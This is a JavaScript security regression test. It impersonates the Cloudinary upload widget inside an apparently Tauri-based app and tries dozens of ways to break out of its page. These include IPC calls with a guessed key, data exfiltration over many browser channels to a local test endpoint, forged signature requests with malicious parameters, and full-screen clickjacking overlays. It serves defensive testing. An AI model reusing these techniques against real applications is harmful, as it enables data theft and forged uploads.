// A loader that tries to get out of the page it runs in: the security regression test. It reports what it could do as
// `document.documentElement.dataset.hostileReport` (JSON) and as a message `{hostileReport}` to its parent.
// Every entry is `true` when the attempt worked, `false` when it was stopped, or a text that says how it was stopped.
(() => {
  'use strict'

  const setup = "__SETUP__"
  const report = { origin: window.location.origin, finished: false, bridge: {} }
  // By another name than the one the page's policy has to allow for scripts: whatever arrives there has got out.
  const door = setup.api.replace('127.0.0.1', 'localhost')
  const out = (how) => `${door}/widget/exfiltrated?how=${encodeURIComponent(how)}`
  const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms))

  const publish = () => {
    document.documentElement.dataset.hostileReport = JSON.stringify(report)
    try {
      window.parent.postMessage({ hostileReport: report }, '*')
    } catch (error) {
      report.publish = String(error)
    }
  }

  // An attempt that is stopped throws or gives something falsy; one that hangs counts as stopped.
  const attempt = async (name, action) => {
    try {
      const outcome = await Promise.race([action(), pause(1500).then(() => 'no answer')])
      report[name] = outcome === undefined ? false : outcome
    } catch (error) {
      report[name] = `${error.name}: ${error.message}`
    }
    publish()
  }

  const nasty = {
    public_id: { public_id: 'victim' },
    tags: { tags: 'everything' },
    from_public_id: { from_public_id: 'victim', to_public_id: 'mine' },
    public_ids: { public_ids: ['victim'], command: 'remove_all' },
    eval: { eval: 'resource_type = "raw"' },
    on_success: { on_success: 'current_asset.update({tags: ["x"]})' },
    overwrite: { overwrite: true },
    invalidate: { invalidate: 1 },
    type: { type: 'private' },
    notification_url: { notification_url: 'https://elsewhere.invalid/' },
    transformation: { transformation: 'w_1' },
    access_control: { access_control: '[]' },
    upload_preset: { upload_preset: 'another' },
    folder: { folder: 'another' },
    ampersand: { context: 'a=b&public_id=victim' },
    nested: { context: { a: ['b', ['c']] } },
    prototype: JSON.parse('{"__proto__": {"public_id": "victim"}}'),
    unknown: { something_new: 'x' },
    future: { timestamp: Math.floor(Date.now() / 1000) + 86400 * 365 },
    past: { timestamp: 1 },
    no_timestamp: { timestamp: undefined },
    no_source: { source: undefined },
    text_timestamp: { timestamp: 'now' },
    long: { context: 'a='.padEnd(100000, 'x') },
  }

  // Through the function the page gives to a widget: the honest way to ask for a dishonest signature.
  const askBridge = async (options) => {
    if (typeof options?.uploadSignature !== 'function') return
    for (const [name, params] of Object.entries(nasty)) {
      const request = { timestamp: Math.floor(Date.now() / 1000), source: 'uw', ...params }
      for (const key of Object.keys(request)) if (request[key] === undefined) delete request[key]
      report.bridge[name] = await Promise.race([
        new Promise((resolve) => {
          try {
            options.uploadSignature((answer) => resolve(answer ? `signed: ${JSON.stringify(answer)}` : false), request)
          } catch (error) {
            resolve(`${error.name}: ${error.message}`)
          }
        }),
        pause(3000).then(() => 'no answer'),
      ])
      publish()
    }
    report.bridgeFinished = true
    publish()
  }

  const COMMANDS = ['rpc', 'subscribe', 'sign_params', 'widget_session', 'widget_report', 'secret_submit', 'secret_cancel', 'plugin:app|version']
  const invoke = (command) => JSON.stringify({ cmd: command, callback: 1, error: 2, payload: {}, options: {}, __TAURI_INVOKE_KEY__: 'guessed' })

  const run = async () => {
    await attempt('internals', () => (window.__TAURI_INTERNALS__ || window.__TAURI__ ? true : false))
    await attempt('internalsInvoke', () => window.__TAURI_INTERNALS__.invoke('rpc', {}).then(() => true))
    await attempt('wryIpc', () => {
      window.ipc.postMessage(invoke('sign_params'))
      return true
    })
    await attempt('messageHandler', () => {
      const handler = window.webkit?.messageHandlers?.ipc
      if (!handler) return false
      for (const command of COMMANDS) handler.postMessage(invoke(command))
      // The object is there on Linux; with a guessed key nobody reads what it is given.
      return 'posted with a guessed key'
    })
    await attempt('ipcScheme', () => fetch('ipc://localhost/sign_params', { method: 'POST', body: '{}' }).then(() => true))
    await attempt('ipcHttp', () => fetch('http://ipc.localhost/sign_params', { method: 'POST', body: '{}' }).then(() => true))
    await attempt('parentDocument', () => (window.parent !== window && window.parent.document ? true : false))
    await attempt('parentInternals', () => (window.parent.__TAURI_INTERNALS__ ? true : false))
    await attempt('topLocation', () => String(window.top.location.href).length > 0)
    await attempt('thumbnails', () => loads('img', 'thumb://localhost/1'))
    await attempt('ownPages', () => loads('iframe', '/index.html'))
    await attempt('secretPage', () => loads('iframe', 'tauri://localhost/secret.html'))

    await attempt('fetch', () => fetch(out('fetch'), { mode: 'no-cors' }).then(() => true))
    await attempt('xhr', () => new Promise((resolve, reject) => {
      const request = new XMLHttpRequest()
      request.open('GET', out('xhr'))
      request.addEventListener('load', () => resolve(true))
      request.addEventListener('error', () => reject(new Error('refused')))
      request.send()
    }))
    await attempt('image', () => loads('img', out('image')))
    await attempt('frame', () => loads('iframe', out('frame')))
    await attempt('style', () => {
      document.documentElement.style.backgroundImage = `url("${out('style')}")`
      return 'asked'
    })
    await attempt('font', () => new FontFace('x', `url("${out('font')}")`).load().then(() => true))
    await attempt('beacon', () => (navigator.sendBeacon(out('beacon'), 'x') ? 'queued' : false))
    await attempt('websocket', () => new Promise((resolve, reject) => {
      const socket = new WebSocket(out('websocket').replace('http', 'ws'))
      socket.addEventListener('open', () => resolve(true))
      socket.addEventListener('error', () => reject(new Error('refused')))
    }))
    await attempt('eventSource', () => new Promise((resolve, reject) => {
      const source = new EventSource(out('eventsource'))
      source.addEventListener('open', () => resolve(true))
      source.addEventListener('error', () => reject(new Error('refused')))
    }))
    await attempt('worker', () => new Promise((resolve, reject) => {
      const source = `fetch(${JSON.stringify(out('worker'))}, {mode: 'no-cors'}).then(() => postMessage(1), () => postMessage(0))`
      const worker = new Worker(URL.createObjectURL(new Blob([source])))
      worker.addEventListener('message', (event) => resolve(event.data === 1))
      worker.addEventListener('error', () => reject(new Error('refused')))
    }))
    await attempt('serviceWorker', () => navigator.serviceWorker.register('/widget/all.js').then(() => true))
    await attempt('prefetch', () => {
      const link = document.createElement('link')
      Object.assign(link, { rel: 'prefetch', href: out('prefetch') })
      document.head.append(link)
      return 'asked'
    })
    await attempt('form', () => {
      const form = document.createElement('form')
      const target = document.createElement('iframe')
      target.name = 'hostile-target'
      Object.assign(form, { method: 'post', action: out('form'), target: 'hostile-target' })
      document.body.append(target, form)
      form.submit()
      return 'asked'
    })
    await attempt('stylesheet', () => loads('link', out('stylesheet'), { rel: 'stylesheet' }))
    await attempt('modulePreload', () => loads('link', out('modulepreload'), { rel: 'modulepreload' }))
    await attempt('dnsPrefetch', () => hint('dns-prefetch'))
    await attempt('preconnect', () => hint('preconnect'))
    await attempt('video', () => loads('video', out('video'), {}, 'loadeddata'))
    await attempt('object', () => loads('object', out('object')))
    await attempt('embed', () => loads('embed', out('embed')))
    await attempt('ping', () => {
      const link = document.createElement('a')
      Object.assign(link, { href: '#ping', ping: out('ping') })
      document.body.append(link)
      link.click()
      return 'asked'
    })
    await attempt('webRtc', async () => {
      if (!window.RTCPeerConnection) return false
      // Loopback only: whoever waits there for a datagram would see it.
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${new URL(setup.api).port}` }] })
      peer.createDataChannel('out')
      await peer.setLocalDescription(await peer.createOffer())
      return 'asked'
    })
    await attempt('webTransport', async () => {
      if (!window.WebTransport) return false
      await new WebTransport(out('webtransport').replace('http:', 'https:')).ready
      return true
    })
    await attempt('eval', () => Function('return true')())
    await attempt('inlineScript', () => {
      const script = document.createElement('script')
      script.textContent = 'window.hostileInline = true'
      document.body.append(script)
      return window.hostileInline === true
    })
    await attempt('remoteScript', () => loads('script', `${out('script')}&.js`))
    await attempt('popup', () => (window.open(out('popup')) ? true : false))
    await attempt('topNavigation', () => {
      window.top.location = out('top-navigation')
      return 'asked'
    })
    await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => true))
    await attempt('clipboard', () => navigator.clipboard.readText().then(() => true))
    await askBridgeByMessage()
    report.finished = true
    publish()
  }

  // A hint has no outcome that a page could see.
  const hint = (rel) => {
    const link = document.createElement('link')
    Object.assign(link, { rel, href: out(rel) })
    document.head.append(link)
    return 'asked'
  }

  const loads = (tag, address, more = {}, done = 'load') =>
    new Promise((resolve, reject) => {
      const element = Object.assign(document.createElement(tag), more)
      element.addEventListener(done, () => {
        if (tag !== 'iframe') return resolve(true)
        // A refused frame loads an empty or opaque document as well; what counts is whether it can be read.
        try {
          resolve(element.contentDocument?.body?.textContent ? true : 'loaded, nothing readable')
        } catch (error) {
          resolve(`${error.name}`)
        }
      })
      element.addEventListener('error', () => reject(new Error('refused')))
      element[{ link: 'href', object: 'data' }[tag] ?? 'src'] = address
      document.body.append(element)
    })

  // Straight to the bridge, in every shape its messages might have.
  const askBridgeByMessage = async () => {
    const answers = []
    const listen = (event) => answers.push(typeof event.data === 'string' ? event.data.slice(0, 500) : JSON.stringify(event.data)?.slice(0, 500))
    window.addEventListener('message', listen)
    const params = { public_id: 'victim', timestamp: Math.floor(Date.now() / 1000), source: 'uw' }
    for (const message of [
      { id: 1, paramsToSign: params },
      { id: '1', type: 'sign', paramsToSign: params },
      { type: 'sign_params', id: 2, params },
      { cmd: 'sign_params', params },
      JSON.stringify({ type: 'uw_prepare', widgetId: 'widget_1', request: params }),
      { __proto__: null, id: 3, paramsToSign: [params, params] },
      'x'.repeat(1000000),
    ]) {
      window.parent.postMessage(message, '*')
      window.top.postMessage(message, '*')
    }
    await pause(1000)
    window.removeEventListener('message', listen)
    report.bridgeMessages = answers
  }

  // With a user's click some doors are wider.
  const onClick = () => {
    report.clicked = true
    const link = document.createElement('a')
    Object.assign(link, { href: out('click-top-link'), target: '_top', textContent: 'x' })
    document.body.append(link)
    link.click()
    try {
      report.clickPopup = window.open(out('click-popup')) ? true : false
    } catch (error) {
      report.clickPopup = error.name
    }
    try {
      window.top.location.assign(out('click-top-navigation'))
      report.clickTopNavigation = 'asked'
    } catch (error) {
      report.clickTopNavigation = error.name
    }
    publish()
  }

  const bait = () => {
    const button = document.createElement('button')
    button.type = 'button'
    button.dataset.test = 'hostile-click'
    button.textContent = 'Upload'
    Object.assign(button.style, { position: 'fixed', inset: 0, width: '100%', height: '100%', zIndex: 2147483647 })
    button.addEventListener('click', onClick)
    const top = document.createElement('a')
    Object.assign(top, { href: out('top-link'), target: '_top', textContent: 'Help' })
    top.dataset.test = 'hostile-top-link'
    top.addEventListener('click', () => {
      report.clickedLeaveTop = true
      publish()
    })
    Object.assign(top.style, { position: 'fixed', bottom: 0, right: 0, width: '25%', height: '25%', background: 'silver', zIndex: 2147483647 })
    // The last thing to try: it costs the script its own page.
    const own = document.createElement('button')
    own.type = 'button'
    own.dataset.test = 'hostile-self'
    own.textContent = 'More'
    Object.assign(own.style, { position: 'fixed', bottom: 0, left: 0, width: '25%', height: '25%', zIndex: 2147483647 })
    own.addEventListener('click', leave)
    document.body.append(button, top, own)
  }

  const leave = () => {
    report.clickedLeaveSelf = true
    publish()
    const form = document.createElement('form')
    Object.assign(form, { method: 'post', action: out('self-form') })
    document.body.append(form)
    form.submit()
    setTimeout(() => { window.location.href = out('self-navigation') }, 300)
    // Only a page that is still there can say so.
    setTimeout(() => {
      report.stillHere = true
      publish()
    }, 1500)
  }

  let started = false
  const begin = () => {
    if (started) return
    started = true
    bait()
    run()
  }

  class Widget {
    constructor(options) {
      askBridge(options)
      // Callbacks of a widget that lies about a success.
      this.open = () => this
    }
    close() { return this }
    hide() { return this }
    show() { return this }
    minimize() { return this }
    update() { return Promise.resolve(this) }
    destroy() { return Promise.resolve() }
    isShowing() { return true }
    isMinimized() { return false }
    isDestroyed() { return false }
  }

  const create = (options, callback) => {
    const forged = { public_id: 'forged', version: 1, signature: '0'.repeat(40), resource_type: 'image', type: 'upload', secure_url: 'https://forged.invalid/x.png' }
    callback?.(undefined, { event: 'success', info: forged, uw_event: true, data: { event: 'success', info: forged } })
    return new Widget(options)
  }

  window.cloudinary = {
    setCloudName: () => {},
    setAPIKey: () => {},
    createUploadWidget: create,
    openUploadWidget: create,
    applyUploadWidget: (_, options, callback) => create(options, callback),
    WIDGET_VERSION: 'hostile',
  }

  if (document.body) begin()
  else document.addEventListener('DOMContentLoaded', begin)
})()
